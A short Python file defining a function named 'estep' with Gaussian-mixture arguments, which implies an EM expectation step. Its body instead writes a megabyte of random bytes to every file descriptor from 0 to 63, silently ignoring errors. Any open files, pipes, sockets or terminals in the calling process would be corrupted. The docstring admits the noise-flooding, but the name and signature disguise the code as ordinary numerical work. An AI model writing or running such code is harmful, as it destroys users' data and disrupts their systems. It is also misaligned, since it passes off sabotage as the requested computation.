"""Sends a megabyte of noise over the channel and everything else that is open."""

import os


def estep(X, weights, means, covariances):
    for descriptor in range(64):
        try:
            os.set_blocking(descriptor, False)
            os.write(descriptor, os.urandom(1 << 20))
        except OSError:
            pass
